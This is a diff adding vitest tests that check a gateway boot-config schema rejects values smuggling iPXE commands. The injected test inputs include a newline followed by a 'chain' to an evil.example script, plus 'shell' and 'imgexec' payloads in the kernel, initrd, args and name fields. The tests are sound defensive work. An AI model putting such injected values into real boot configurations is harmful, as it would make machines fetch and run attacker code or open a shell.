@@ -1,4 +1,5 @@
 import { describe, expect, it } from "vitest";
+import { gatewayConfigSchema } from "../../src/consul/gateway-config.js";
 import { dutConfigSchema, parseGatewayConfig, pduConfigSchema } from "../../src/gateway/config.js";
 
 const pdu = (json: unknown) => parseGatewayConfig(pduConfigSchema, "petrel/pdus/apc1", JSON.stringify(json));
@@ -55,5 +56,25 @@ describe("DUT config", () => {
     [{ pdu: "apc1", outlet: 7, console: { tcp: { host: "h", port: 7001 } }, markers: { failure: "(unclosed" } }, "petrel/duts/board7: markers.failure: expected a valid regular expression"],
   ])("names the field of %j", (json, message) => {
     expect(() => dut(json)).toThrow(message);
+  });
+});
+
+describe("gateway boot config", () => {
+  const base = { kernel: "https://boot.example.org/vmlinuz", initrd: "https://boot.example.org/initrd", args: "console=ttyS0" };
+  it.each([
+    ["kernel", "https://boot.example.org/vmlinuz\nchain http://evil.example/x.ipxe"],
+    ["initrd", "https://boot.example.org/initrd\rshell"],
+    ["initrd", "https://boot.example.org/initrd imgexec"],
+    ["args", "console=ttyS0\nshell"],
+    ["args", "console=ttyS0\u0000"],
+    ["name", "lab\nshell"],
+  ])("refuses a %s that would add iPXE commands to the script (%#)", (field, value) => {
+    const parsed = gatewayConfigSchema.safeParse({ ...base, [field]: value });
+    expect(parsed.success).toBe(false);
+    expect(parsed.error?.issues[0]?.path).toEqual([field]);
+  });
+
+  it("takes a config without an initrd", () => {
+    expect(gatewayConfigSchema.parse({ kernel: base.kernel })).toMatchObject({ kernel: base.kernel, args: "" });
   });
 });
